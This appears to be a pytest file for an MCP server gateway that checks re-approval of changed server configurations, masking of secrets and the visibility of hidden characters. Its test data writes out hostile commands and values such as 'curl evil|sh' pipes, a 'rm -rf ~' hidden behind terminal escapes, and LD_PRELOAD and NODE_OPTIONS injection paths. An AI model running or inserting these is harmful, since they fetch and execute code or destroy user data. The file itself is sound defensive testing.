"""Servers are agreed to once; what changes a program or an address is asked for again, and nothing can hide in it."""

from __future__ import annotations

from copy import deepcopy
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.cells import cell_len

from hikidashi.common.unicode import visible
from hikidashi.gateway import GatewayServer
from hikidashi.gateway.approval import Approvals, shown_server
from hikidashi.gateway.config import server_of_entry
from hikidashi.servers.config import McpServer

PROCESS: dict[str, Any] = {
    "command": "npx",
    "args": ["-y", "server", "--token", "${A_TOKEN}"],
    "env": {"API_KEY": "sk-test-1", "NODE_OPTIONS": "--title=x", "MODE": "${A_MODE:-fast}"},
}
ADDRESS: dict[str, Any] = {
    "url": "https://host.example/mcp?api_key=one&team=a",
    "headers": {"Authorization": "Bearer ${A_TOKEN}", "X-Team": "a"},
}


@pytest.fixture(autouse=True)
def variables(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_TOKEN", "sk-test-from-environment")


@pytest.fixture
def approvals(tmp_path: Path) -> Approvals:
    return Approvals(tmp_path / "state" / "approved.json")


def changed(entry: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    *sections, key = path.split(".")
    result = inside = deepcopy(entry)
    for section in sections:
        inside = inside[section]
    inside[key] = value
    return result


def asks_again(approvals: Approvals, before: dict[str, Any], after: dict[str, Any], source: str = "/p/m.json") -> bool:
    approvals.add([server_of_entry("a", before, "/p/m.json")])
    assert approvals.missing([server_of_entry("a", before, "/p/m.json")]) == []
    return approvals.missing([server_of_entry("a", after, source)]) != []


@pytest.mark.parametrize(
    ("entry", "path", "value"),
    [
        (PROCESS, "command", "evil"),
        (PROCESS, "args", ["-y", "evil", "--token", "${A_TOKEN}"]),
        (PROCESS, "args", ["-y", "server", "--token", "${OTHER:-x}"]),
        (PROCESS, "cwd", "/elsewhere"),
        (PROCESS, "env.LD_PRELOAD", "/tmp/evil.so"),
        (PROCESS, "env.NODE_OPTIONS", "--require=/tmp/evil.js"),
        (PROCESS, "env.API_KEY", "${A_TOKEN}"),
        (PROCESS, "env.MODE", "${A_MODE:-slow}"),
        (PROCESS, "env", {}),
        (ADDRESS, "url", "https://evil.example/mcp?api_key=one&team=a"),
        (ADDRESS, "url", "http://host.example/mcp?api_key=one&team=a"),
        (ADDRESS, "url", "https://host.example/mcp?api_key=${A_TOKEN}&team=a"),
        (ADDRESS, "url", "https://host.example/mcp?api_key=one&team=b"),
        (ADDRESS, "type", "sse"),
        (ADDRESS, "headers.Authorization", "Bearer ${keyring:other/me}"),
        (ADDRESS, "headers.X-More", "b"),
    ],
)
def test_a_change_of_what_runs_or_is_reached_is_asked_for(
    entry: dict[str, Any], path: str, value: Any, approvals: Approvals
) -> None:
    assert asks_again(approvals, entry, changed(entry, path, value))


@pytest.mark.parametrize(
    ("entry", "path", "value"),
    [
        (PROCESS, "env.API_KEY", "sk-test-2"),
        (PROCESS, "hikidashi", {"call_seconds": 5}),
        (ADDRESS, "url", "https://host.example/mcp?api_key=two&team=a"),
        (ADDRESS, "headers.X-Team", "b"),
    ],
)
def test_another_value_of_a_secret_is_not_asked_for(
    entry: dict[str, Any], path: str, value: Any, approvals: Approvals
) -> None:
    assert not asks_again(approvals, entry, changed(entry, path, value))


@pytest.mark.parametrize(
    ("before", "after", "asks"),
    [
        ({}, {"read_only": ["get_*"]}, True),
        ({"read_only": ["get_*"]}, {"read_only": ["*"]}, True),
        ({"read_only": ["get_*"]}, {"read_only": ["get_*"], "confirm": "destructive"}, False),
        ({"read_only": ["get_*"]}, {}, False),
        ({}, {"confirm": "destructive"}, False),
        ({"confirm": "destructive"}, {}, True),
        ({"confirm": "destructive"}, {"confirm": "never"}, True),
        ({"confirm": "destructive"}, {"confirm": ["delete_*"]}, True),
        ({"confirm": "destructive"}, {"confirm": ["destructive"]}, True),
        ({"confirm": ["*"]}, {"confirm": ["delete_*"]}, True),
        ({"confirm": "destructive"}, {"confirm": "destructive", "at_once": 1, "memory_mb": 100, "lazy": False}, False),
        ({"confirm": "destructive", "read_only": ["get_*"]}, {"confirm": "destructive"}, False),
    ],
)
def test_options_that_let_more_happen_without_a_person_are_asked_for(
    before: dict[str, Any], after: dict[str, Any], asks: bool, approvals: Approvals
) -> None:
    one, other = ({**PROCESS, "hikidashi": options} for options in (before, after))
    assert asks_again(approvals, one, other) is asks


def test_what_changed_in_the_options_is_shown(approvals: Approvals) -> None:
    def shown(**options: Any) -> str:
        return approvals.shown(server_of_entry("a", {"command": "x", "hikidashi": options}, "/p/m.json"))

    assert shown() == "x; in /p"
    assert shown(read_only=["get_*", "\x1b[8m*"]) == r"x; in /p; read_only: get_*, \x1b[8m*"
    approvals.add([server_of_entry("a", {"command": "x", "hikidashi": {"confirm": "destructive"}}, "/p/m.json")])
    assert shown(confirm="destructive") == "x; in /p; confirm: destructive"
    assert shown() == "x; in /p; confirm: never, unlike before"


def test_another_value_of_a_variable_is_not_asked_for(approvals: Approvals, monkeypatch: pytest.MonkeyPatch) -> None:
    approvals.add([server_of_entry("a", PROCESS, "/p/m.json")])
    monkeypatch.setenv("A_TOKEN", "sk-test-rotated")
    assert approvals.missing([server_of_entry("a", PROCESS, "/p/m.json")]) == []


def test_the_same_words_in_another_folder_are_another_program(approvals: Approvals) -> None:
    relative = {"command": "./server"}
    assert asks_again(approvals, relative, relative, source="/elsewhere/m.json")


def test_a_program_that_asks_for_passwords_is_no_secret(approvals: Approvals) -> None:
    entry = {"command": "git", "env": {"GIT_ASKPASS": "/usr/bin/askpass"}}
    assert asks_again(approvals, entry, changed(entry, "env.GIT_ASKPASS", "/tmp/evil"))
    assert "GIT_ASKPASS=/tmp/evil" in shown_server(
        server_of_entry("a", changed(entry, "env.GIT_ASKPASS", "/tmp/evil"), "x")
    )


@pytest.mark.parametrize("content", ["", "{", "{}", "[1, null]", '"a"', "[" * 100_000])
def test_a_damaged_file_of_approvals_approves_nothing(content: str, tmp_path: Path) -> None:
    path = tmp_path / "approved.json"
    path.write_text(content)
    assert len(Approvals(path).missing([server_of_entry("a", PROCESS, "/p/m.json")])) == 1


def test_servers_made_in_code_are_asked_for_as_well(approvals: Approvals) -> None:
    server = GatewayServer(McpServer(name="a", transport="stdio", command="x", args=("y",)))
    assert approvals.missing([server]) == [server]
    approvals.add([server])
    assert approvals.missing([server]) == []


def test_what_is_shown_is_what_the_file_says_without_its_secrets() -> None:
    assert shown_server(server_of_entry("a", PROCESS, "/p/m.json")) == (
        "npx -y server --token '${A_TOKEN}'; env API_KEY=***; env NODE_OPTIONS=--title=x; "
        "env MODE='${A_MODE:-fast}'; in /p"
    )
    assert shown_server(server_of_entry("a", ADDRESS, "/p/m.json")) == (
        "https://host.example/mcp?api_key=***&team=a; header Authorization=${A_TOKEN}; header X-Team=***"
    )


@pytest.mark.parametrize(
    ("entry", "seen"),
    [
        ({"command": "ls", "args": ["\x1b[2K\rrm -rf ~"]}, r"\x1b[2K\rrm -rf ~"),
        ({"command": "ls\x1b[8m", "args": ["; evil"]}, r"ls\x1b[8m"),
        ({"command": "ls", "args": ["\u202elive\u2066"]}, r"\u202elive\u2066"),
        ({"command": "ls", "args": ["a\u200b\u3164\ufe0fb\u2028c\x9b31m"]}, r"a\u200b\u3164\ufe0fb\u2028c\x9b31m"),
        ({"command": "ls", "args": ["x" + " " * 4_000 + "evil"]}, "x [4,000 spaces] evil"),
        ({"command": "sh", "args": ["-c", "curl evil|sh"], "env": {"X_TOKEN": "curl evil|sh"}}, "'curl evil|sh'"),
        ({"command": "sh", "args": ["-c", "TOKEN=$(curl evil|sh)"]}, "TOKEN=$(curl evil|sh)"),
        ({"command": "sh", "args": ["--token", "$(curl evil|sh)"]}, "$(curl evil|sh)"),
        ({"command": "${SOME_CMD:-evil}"}, "which starts evil"),
        ({"command": "ls", "env": {"A\x1b[8m": "b\x1b[8m"}}, r"env A\x1b[8m='b\x1b[8m'"),
        ({"url": "https://good.example\x1b[8m@evil.example/mcp"}, r"https://good.example\x1b[8m@evil.example/mcp"),
    ],
)
def test_nothing_can_hide_in_what_is_shown(entry: dict[str, Any], seen: str) -> None:
    shown = shown_server(server_of_entry("a", entry, "/p/m.json"))
    assert seen in shown
    assert shown.isprintable()


@pytest.mark.parametrize("args", [["--api-key", "abcdef123"], ["--token=abcdef123"], ["sk-abcdef123"]])
def test_a_bare_key_among_the_arguments_is_not_shown(args: list[str]) -> None:
    shown = shown_server(server_of_entry("a", {"command": "x", "args": args}, "/p/m.json"))
    assert "abcdef123" not in shown
    assert "***" in shown


@given(st.text(), st.text())
def test_every_character_is_seen_and_different_texts_look_different(one: str, other: str) -> None:
    assert visible(one).isprintable()
    assert cell_len(visible(one)) >= len(visible(one)) - sum(map(_is_combining, one))
    if "\\" not in one + other and "[" not in one + other:
        assert (visible(one) == visible(other)) == (one == other)


def _is_combining(character: str) -> bool:
    return cell_len(character) == 0 and character.isprintable()
